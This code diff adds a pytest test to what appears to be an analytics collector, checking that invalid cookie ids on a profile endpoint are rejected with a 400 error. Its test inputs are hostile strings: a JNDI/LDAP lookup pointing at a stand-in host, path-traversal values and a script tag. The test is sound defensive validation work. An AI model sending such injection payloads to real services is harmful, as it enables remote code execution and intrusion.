@@ -127,6 +127,19 @@ async def test_profile_needs_a_cookie_id(collector: RunningCollector, query: str
     assert await response.json() == {"error": "aid: required (the ma_aid cookie value)"}
 
 
+@pytest.mark.parametrize(
+    "aid", ["{c:String}", "${jndi:ldap://x.example/a}", "..", "%2E%2E", "a/b", "<script>", "a b"]
+)
+async def test_profile_of_an_unusable_cookie_id_is_400_not_503(
+    collector: RunningCollector, aid: str
+) -> None:
+    """Not "retry later": no worker is asked, whether one is up or not (none is, here)."""
+    response = await collector.get("/v1/profile", params={"aid": aid})
+
+    assert response.status == 400
+    assert (await response.json())["error"].startswith("aid: not a cookie id")
+
+
 async def test_profile_is_503_with_retry_after_while_the_worker_does_not_answer(
     collector: RunningCollector,
 ) -> None:
